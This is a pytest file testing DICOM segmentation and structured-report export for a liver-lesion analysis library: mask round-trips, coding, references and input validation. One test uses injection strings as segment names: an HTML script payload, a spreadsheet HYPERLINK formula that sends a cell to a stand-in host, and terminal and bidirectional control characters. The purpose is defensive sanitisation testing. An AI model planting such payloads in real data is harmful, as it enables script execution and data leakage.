"""DICOM SEG and SR: what was exported is read back from the files, voxel for voxel and word for word."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import highdicom
import numpy as np
import pydicom
import pytest
from fixtures.dicom_files import body_phantom, write_series
from fixtures.dicom_seg_files import read_masks
from fixtures.iod_check import iod_problems
from hypothesis import given, settings
from hypothesis import strategies as st
from LiverLesionCascadeLib.engine import codes
from LiverLesionCascadeLib.engine.codes import Code
from LiverLesionCascadeLib.engine.errors import InputError, OutputError
from LiverLesionCascadeLib.engine.grid.boxed import Boxed
from LiverLesionCascadeLib.engine.grid.geometry import ImageGeometry
from LiverLesionCascadeLib.engine.measures.lesions import Lesion, measure_lesion
from LiverLesionCascadeLib.engine.reports.dicom_export import (
    ExportedSegment,
    measurement_report,
    new_uid,
    segmentation_object,
    write_report,
    write_segmentation,
)
from LiverLesionCascadeLib.engine.scan.dicom.dicom_io import read_dicom_files
from LiverLesionCascadeLib.engine.scan.dicom.dicom_source import SourceImage, source_images

SHAPE = (6, 16, 20)
CYST = Code("SCT", "441457006", "Cyst")


def make_series(folder: Path, **tags: object) -> list[Path]:
    given_tags = {"FrameOfReferenceUID": "1.2.3.9", "PatientID": "17", "StudyID": "4", **tags}
    write_series(folder, body_phantom(SHAPE), **given_tags)
    return sorted(folder.iterdir())


def grid_of(folder: Path) -> tuple[tuple[int, int, int], np.ndarray]:
    source = read_dicom_files([folder]).source
    return source.shape, source.ijk_to_lps


def segment(label: str, mask: np.ndarray, measures: Lesion | None = None, **others: object) -> ExportedSegment:
    lesion = measures is not None
    values: dict = {
        "label": label,
        "mask": Boxed.mask(mask),
        "category": codes.MORPHOLOGICALLY_ALTERED_STRUCTURE if lesion else codes.ANATOMICAL_STRUCTURE,
        "type": codes.MASS if lesion else codes.LIVER,
        "region": codes.LIVER if lesion else codes.NO_CODE,
        "color": (0.5, 0.25, 0.75),
        "origin": "AUTOMATIC",
        "algorithm": ("lits-compact", "1.0"),
        "tracking_uid": new_uid(),
        "volume_ml": float(mask.sum()) / 1000,
        "measures": measures,
    }
    return ExportedSegment(**{**values, **others})


def masks() -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Liver and two lesions in it, the second one touching the first; the lesions overlap the liver."""
    liver = np.zeros(SHAPE, bool)
    liver[1:5, 3:14, 2:17] = True
    first, second = np.zeros(SHAPE, bool), np.zeros(SHAPE, bool)
    first[2:4, 5:9, 4:10] = True
    second[3, 9:11, 4:6] = True
    return liver, first, second


@pytest.fixture
def case(tmp_path: Path) -> tuple[list[SourceImage], list[ExportedSegment], ImageGeometry]:
    make_series(tmp_path / "ct")
    ct = read_dicom_files([tmp_path / "ct"])
    images = source_images(sorted((tmp_path / "ct").iterdir()), ct.source.shape, ct.source.ijk_to_lps)
    liver, first, second = masks()
    segments = [segment("Liver", liver)]
    for number, mask in enumerate((first, second), 1):
        lesion = dataclasses.replace(measure_lesion(mask, ct.hu, ct.geometry), number=number)
        segments.append(segment(f"Lesion {number}", mask, lesion))
    return images, segments, ct.source


def written_segmentation(path: Path, images: list[SourceImage], segments: list[ExportedSegment]) -> pydicom.Dataset:
    write_segmentation(path, segmentation_object(images, segments, "Liver and lesions"), images, segments)
    return pydicom.dcmread(path)


def test_the_file_holds_every_segment_voxel_for_voxel_where_the_scan_lies(case, tmp_path: Path) -> None:
    images, segments, _grid = case
    written_segmentation(tmp_path / "seg.dcm", images, segments)
    shape, matrix = grid_of(tmp_path / "ct")
    found = read_masks(tmp_path / "seg.dcm", matrix, shape)
    assert found.keys() == {"Liver", "Lesion 1", "Lesion 2"}
    for name, mask in zip(found, masks(), strict=True):
        assert np.array_equal(found[name], mask), name


@settings(max_examples=12, deadline=None)
@given(st.data(), st.integers(0, 2**32 - 1))
def test_any_masks_on_any_orientation_come_back_as_they_were(tmp_path_factory, data, seed: int) -> None:
    folder = tmp_path_factory.mktemp("series")
    rng = np.random.default_rng(seed)
    turn, _ = np.linalg.qr(rng.normal(size=(3, 3)))
    turn *= np.sign(np.linalg.det(turn))
    row, column, normal = np.eye(3) if data.draw(st.booleans()) else turn
    step = data.draw(st.floats(0.7, 5))
    make_series(
        folder / "ct",
        positions=[np.array([-100.0, -50.0, -30.0]) + step * n * normal for n in rng.permutation(SHAPE[0])],
        ImageOrientationPatient=[f"{x:.9g}" for x in (*row, *column)],
        PixelSpacing=[0.6, 0.9],
    )
    shape, matrix = grid_of(folder / "ct")
    images = source_images(sorted((folder / "ct").iterdir()), shape, matrix)
    first, second = rng.random(shape) < 0.3, rng.random(shape) < 0.05
    first[0], second[0, 0, 0] = False, True
    written_segmentation(folder / "seg.dcm", images, [segment("a", first), segment("b", second)])
    found = read_masks(folder / "seg.dcm", matrix, shape)
    assert np.array_equal(found["a"], first)
    assert np.array_equal(found["b"], second)


def test_a_volume_that_was_flipped_or_cropped_still_exports_where_it_lies(tmp_path: Path) -> None:
    files = make_series(tmp_path / "ct")
    shape, matrix = grid_of(tmp_path / "ct")
    crop = np.eye(4)
    crop[:3, 3] = (2, 3, 1)
    flip = np.diag([-1.0, 1, 1, 1])
    flip[0, 3] = 9  # the crop's ten columns in reverse
    images = source_images(files, (4, 8, 10), matrix @ crop @ flip)
    mask = np.random.default_rng(0).random((4, 8, 10)) < 0.5
    written_segmentation(tmp_path / "seg.dcm", images, [segment("a", mask)])
    whole = np.zeros(shape, bool)
    whole[1:5, 3:11, 2:12] = mask[:, :, ::-1]
    assert np.array_equal(read_masks(tmp_path / "seg.dcm", matrix, shape)["a"], whole)


def test_terminology_names_colours_and_tracking_are_kept(case, tmp_path: Path) -> None:
    images, segments, _grid = case
    changed = dataclasses.replace(
        segments[2],
        type=CYST,
        type_modifier=Code("SCT", "255232004", "Polycystic"),
        region_modifier=Code("SCT", "24028007", "Right"),
        origin="MANUAL",
        algorithm=None,
    )
    dataset = written_segmentation(tmp_path / "seg.dcm", images, [*segments[:2], changed])
    liver, lesion, cyst = dataset.SegmentSequence
    assert [item.SegmentLabel for item in dataset.SegmentSequence] == ["Liver", "Lesion 1", "Lesion 2"]
    assert [item.TrackingUID for item in dataset.SegmentSequence] == [each.tracking_uid for each in segments]
    assert liver.SegmentedPropertyTypeCodeSequence[0].CodeValue == codes.LIVER.value
    kind = lesion.SegmentedPropertyTypeCodeSequence[0]
    assert (kind.CodingSchemeDesignator, kind.CodeValue, kind.CodeMeaning) == codes.MASS
    category = lesion.SegmentedPropertyCategoryCodeSequence[0]
    assert category.CodeValue == codes.MORPHOLOGICALLY_ALTERED_STRUCTURE.value
    assert lesion.AnatomicRegionSequence[0].CodeValue == codes.LIVER.value
    assert (lesion.SegmentAlgorithmType, lesion.SegmentAlgorithmName) == ("AUTOMATIC", "lits-compact")
    modifier = cyst.SegmentedPropertyTypeCodeSequence[0].SegmentedPropertyTypeModifierCodeSequence[0]
    assert modifier.CodeMeaning == "Polycystic"
    assert cyst.AnatomicRegionSequence[0].AnatomicRegionModifierSequence[0].CodeMeaning == "Right"
    assert cyst.SegmentAlgorithmType == "MANUAL"
    lab = highdicom.color.CIELabColor.from_rgb(128, 64, 191)
    assert tuple(lesion.RecommendedDisplayCIELabValue) == tuple(lab.value)
    assert dataset.SegmentsOverlap == "YES"


def test_however_many_overlapping_segments_there_are_two_bytes_a_pixel_suffice(case, tmp_path, monkeypatch) -> None:
    images, _segments, _grid = case
    spots = np.arange(np.prod(SHAPE)).reshape(SHAPE)
    segments = [segment("Liver", spots > 10), *(segment(f"Lesion {n}", spots // 5 == n) for n in range(2, 40))]
    given_bytes = []
    make = highdicom.seg.Segmentation

    def measured(*, pixel_array: np.ndarray, **others: object) -> pydicom.Dataset:
        given_bytes.append(pixel_array.nbytes)
        return make(pixel_array=pixel_array, **others)

    monkeypatch.setattr(highdicom.seg, "Segmentation", measured)
    dataset = written_segmentation(tmp_path / "seg.dcm", images, segments)
    assert given_bytes == [2 * spots.size]
    assert dataset.SegmentsOverlap == "YES"
    shape, matrix = grid_of(tmp_path / "ct")
    found = read_masks(tmp_path / "seg.dcm", matrix, shape)
    assert all(np.array_equal(found[each.label], each.mask.full(shape)) for each in segments)


def test_pixels_that_fill_no_whole_bytes_come_back_and_segments_side_by_side_do_not_overlap(tmp_path: Path) -> None:
    write_series(tmp_path / "ct", body_phantom((5, 9, 7)), FrameOfReferenceUID="1.2.3.9")
    shape, matrix = grid_of(tmp_path / "ct")
    images = source_images(sorted((tmp_path / "ct").iterdir()), shape, matrix)
    first = np.random.default_rng(0).random(shape) < 0.3
    dataset = written_segmentation(tmp_path / "seg.dcm", images, [segment("a", first), segment("b", ~first)])
    assert dataset.SegmentsOverlap == "NO"
    found = read_masks(tmp_path / "seg.dcm", matrix, shape)
    assert np.array_equal(found["a"], first) and np.array_equal(found["b"], ~first)


def test_patient_and_study_are_those_of_the_scan(case, tmp_path: Path) -> None:
    images, segments, _grid = case
    dataset = written_segmentation(tmp_path / "seg.dcm", images, segments)
    scan = images[0].dataset
    for name in ("PatientID", "PatientName", "StudyInstanceUID", "FrameOfReferenceUID"):
        assert dataset[name].value == scan[name].value, name
    assert dataset.SeriesInstanceUID != scan.SeriesInstanceUID
    referenced = dataset.ReferencedSeriesSequence[0]
    assert referenced.SeriesInstanceUID == scan.SeriesInstanceUID


def test_the_report_measures_each_lesion_and_refers_to_its_segment_and_to_the_images(case, tmp_path: Path) -> None:
    images, segments, grid = case
    seg = segmentation_object(images, segments, "Liver and lesions")
    write_report(tmp_path / "sr.dcm", measurement_report(images, seg, segments, "Measures", grid), seg)
    report = highdicom.sr.srread(tmp_path / "sr.dcm")
    groups = report.content.get_volumetric_roi_measurement_groups()
    assert [group.tracking_identifier for group in groups] == ["Liver", "Lesion 1", "Lesion 2"]
    assert [group.tracking_uid for group in groups] == [each.tracking_uid for each in segments]
    for number, (group, exported) in enumerate(zip(groups, segments, strict=True), 1):
        (reference,) = [
            item.ReferencedSOPSequence[0]
            for item in group[0].ContentSequence
            if item.ValueType == "IMAGE" and "ReferencedSegmentNumber" in item.ReferencedSOPSequence[0]
        ]
        assert reference.ReferencedSOPInstanceUID == seg.SOPInstanceUID
        assert reference.ReferencedSegmentNumber == number
        assert (group.finding_type.scheme_designator, group.finding_type.value) == exported.type[:2]
        values = [(item.name.value, item.unit.value, item.value) for item in group.get_measurements()]
        assert values[0] == (codes.VOLUME.value, "mL", pytest.approx(exported.volume_ml, rel=1e-5))
        lesion = exported.measures
        if lesion is not None:
            assert values[1:] == [
                (codes.LONG_AXIS.value, "mm", pytest.approx(lesion.long_axis_mm, rel=1e-5)),
                (codes.SHORT_AXIS.value, "mm", pytest.approx(lesion.short_axis_mm, rel=1e-5)),
                (codes.ATTENUATION.value, "[hnsf'U]", pytest.approx(lesion.mean_hu, rel=1e-5)),
                (codes.ATTENUATION.value, "[hnsf'U]", pytest.approx(lesion.sd_hu, rel=1e-5)),
            ]
    evidence = {
        str(item.ReferencedSOPInstanceUID)
        for study in report.CurrentRequestedProcedureEvidenceSequence
        for series in study.ReferencedSeriesSequence
        for item in series.ReferencedSOPSequence
    }
    assert str(seg.SOPInstanceUID) in evidence
    assert {str(image.dataset.SOPInstanceUID) for image in images} <= evidence


def test_the_axes_in_the_report_name_the_image_in_which_they_were_measured(case, tmp_path: Path) -> None:
    images, segments, grid = case
    lesion = segments[1].measures
    assert lesion is not None
    seg = segmentation_object(images, segments, "")
    write_report(tmp_path / "sr.dcm", measurement_report(images, seg, segments, "", grid), seg)
    report = highdicom.sr.srread(tmp_path / "sr.dcm")
    (group,) = report.content.get_volumetric_roi_measurement_groups(tracking_uid=segments[1].tracking_uid)
    for code in (codes.LONG_AXIS, codes.SHORT_AXIS):
        (axis,) = group.get_measurements(name=highdicom.sr.CodedConcept(code.value, code.scheme, code.meaning))
        (reference,) = [item for item in axis[0].ContentSequence if item.ValueType == "IMAGE"]
        where = reference.ReferencedSOPSequence[0].ReferencedSOPInstanceUID
        assert where == images[lesion.slice_in(grid)].dataset.SOPInstanceUID


def test_seg_and_sr_have_all_that_the_standard_asks_of_them(case, tmp_path: Path) -> None:
    images, segments, grid = case
    seg = segmentation_object(images, segments, "Liver and lesions")
    write_segmentation(tmp_path / "seg.dcm", seg, images, segments)
    write_report(tmp_path / "sr.dcm", measurement_report(images, seg, segments, "Measures", grid), seg)
    for name in ("seg.dcm", "sr.dcm"):
        assert iod_problems(pydicom.dcmread(tmp_path / name)) == []


def test_a_header_without_optional_words_is_enough(tmp_path: Path) -> None:
    files = make_series(tmp_path / "ct", PatientID=None, StudyID=None, PatientName=None)
    images = source_images(files, *grid_of(tmp_path / "ct"))
    dataset = written_segmentation(tmp_path / "seg.dcm", images, [segment("Liver", masks()[0])])
    assert dataset.PatientID in ("", None)
    assert iod_problems(dataset) == []


def test_long_and_odd_names_are_cut_to_what_dicom_holds(case, tmp_path: Path) -> None:
    images, segments, _grid = case
    odd = dataclasses.replace(segments[0], label="Läsion \\ links\n" + "x" * 80)
    dataset = written_segmentation(tmp_path / "seg.dcm", images, [odd])
    assert dataset.SegmentSequence[0].SegmentLabel.startswith("Läsion / links x")
    assert len(dataset.SegmentSequence[0].SegmentLabel) <= 64


@pytest.mark.parametrize(
    "name",
    [
        "</script><img src=x onerror=alert(1)>",
        '=HYPERLINK("http://x/?"&A1,"open")',
        "one\\two\\three",
        "\x1b$B escape \x1b(B, a zero \0, a bell \a and a line\nof its own",
        "right to left \u202e\u2066 and nothing \u200b between",
        "x" * 5000,
    ],
)
def test_a_name_is_one_line_of_plain_text_in_seg_and_sr_whatever_it_holds(case, tmp_path: Path, name: str) -> None:
    images, segments, grid = case
    named = [segments[0], *(dataclasses.replace(each, label=name) for each in segments[1:])]
    seg = segmentation_object(images, named, name)
    write_segmentation(tmp_path / "seg.dcm", seg, images, named)
    write_report(tmp_path / "sr.dcm", measurement_report(images, seg, named, name, grid), seg)
    segmentation, report = (pydicom.dcmread(tmp_path / each) for each in ("seg.dcm", "sr.dcm"))
    assert iod_problems(segmentation) == iod_problems(report) == []
    assert segmentation.PatientID == report.PatientID == "17"
    groups = highdicom.sr.srread(tmp_path / "sr.dcm").content.get_volumetric_roi_measurement_groups()
    assert [group.tracking_uid for group in groups] == [each.tracking_uid for each in segments], "no group more or less"
    texts = [each.SegmentLabel for each in segmentation.SegmentSequence[1:]]
    texts += [each.TrackingID for each in segmentation.SegmentSequence[1:]]
    texts += [segmentation.SeriesDescription, report.SeriesDescription]
    texts += [group.tracking_identifier for group in groups[1:]]
    for text in texts:
        assert isinstance(text, str) and 0 < len(text) <= 64
        assert text.isprintable() and "\\" not in text
        assert text[:10].rstrip() in name.replace("\\", "/").replace("\x1b", ""), "what can be read is kept"


def test_what_is_made_of_a_lossy_scan_says_so(tmp_path: Path) -> None:
    lossy = {"LossyImageCompression": "01", "LossyImageCompressionRatio": 10.5}
    files = make_series(tmp_path / "ct", LossyImageCompressionMethod="ISO_10918_1", **lossy)
    images = source_images(files, *grid_of(tmp_path / "ct"))
    dataset = written_segmentation(tmp_path / "seg.dcm", images, [segment("Liver", masks()[0])])
    assert dataset.LossyImageCompression == "01"
    assert dataset.LossyImageCompressionRatio == pytest.approx(10.5)
    assert dataset.LossyImageCompressionMethod == "ISO_10918_1"
    assert iod_problems(dataset) == []


@pytest.mark.parametrize("nothing", ["", "\u200b"])
def test_a_segment_or_bundle_without_a_name_has_the_same_made_up_one_everywhere(case, tmp_path, nothing) -> None:
    images, segments, grid = case
    named = [segments[0], dataclasses.replace(segments[1], label=nothing, algorithm=(nothing, nothing))]
    seg = segmentation_object(images, named, "")
    write_segmentation(tmp_path / "seg.dcm", seg, images, named)
    write_report(tmp_path / "sr.dcm", measurement_report(images, seg, named, "", grid), seg)
    segmentation, report = (pydicom.dcmread(tmp_path / each) for each in ("seg.dcm", "sr.dcm"))
    assert iod_problems(segmentation) == iod_problems(report) == []
    item = segmentation.SegmentSequence[1]
    groups = highdicom.sr.srread(tmp_path / "sr.dcm").content.get_volumetric_roi_measurement_groups()
    assert item.SegmentLabel == item.TrackingID == groups[1].tracking_identifier == "Segment 2"
    algorithm = item.SegmentationAlgorithmIdentificationSequence[0]
    assert algorithm.AlgorithmName == "Liver Lesion Cascade" and algorithm.AlgorithmVersion == "unknown"


def test_empty_segments_are_left_out_and_nothing_at_all_is_refused(case, tmp_path: Path) -> None:
    images, segments, grid = case
    empty = segment("Lesion 9", np.zeros(SHAPE, bool))
    seg = segmentation_object(images, [*segments, empty], "")
    assert [item.SegmentLabel for item in seg.SegmentSequence] == ["Liver", "Lesion 1", "Lesion 2"]
    write_report(tmp_path / "sr.dcm", measurement_report(images, seg, [*segments, empty], "", grid), seg)
    with pytest.raises(OutputError, match="nothing to export"):
        segmentation_object(images, [empty], "")


def test_a_damaged_segmentation_is_not_written(case, tmp_path: Path) -> None:
    images, segments, _grid = case
    seg = segmentation_object(images, segments, "")
    other = np.roll(segments[0].mask.values, 1, axis=2)
    moved = [dataclasses.replace(segments[0], mask=Boxed(other & False, segments[0].mask.start)), *segments[1:]]
    with pytest.raises(OutputError, match="Liver was not written as it is"):
        write_segmentation(tmp_path / "seg.dcm", seg, images, moved)
    assert [path.name for path in tmp_path.iterdir()] == ["ct"]


def test_a_report_that_lacks_a_segment_is_not_written(case, tmp_path: Path) -> None:
    images, segments, grid = case
    seg = segmentation_object(images, segments, "")
    report = measurement_report(images, seg, segments[:2], "", grid)
    with pytest.raises(OutputError, match="each segment once"):
        write_report(tmp_path / "sr.dcm", report, seg)
    assert [path.name for path in tmp_path.iterdir()] == ["ct"]


def test_files_that_are_not_those_of_the_volume_are_refused(tmp_path: Path) -> None:
    files = make_series(tmp_path / "ct")
    shape, matrix = grid_of(tmp_path / "ct")
    with pytest.raises(InputError, match="1 of the volume's 6 slices"):
        source_images(files[1:], shape, matrix)
    half = matrix.copy()
    half[:3, 0] /= 2
    with pytest.raises(InputError, match="resampled or moved"):
        source_images(files, shape, half)
    shifted = matrix.copy()
    shifted[0, 3] += 0.4
    with pytest.raises(InputError, match="resampled or moved"):
        source_images(files, shape, shifted)
    other = make_series(tmp_path / "other")
    with pytest.raises(InputError, match="several series"):
        source_images([*files[:3], *other[3:]], shape, matrix)
    bare = make_series(tmp_path / "bare", StudyInstanceUID=None)
    with pytest.raises(InputError, match="no usable StudyInstanceUID"):
        source_images(bare, shape, matrix)
    files[0].write_bytes(b"no DICOM")
    with pytest.raises(InputError, match="no DICOM file"):
        source_images(files, shape, matrix)
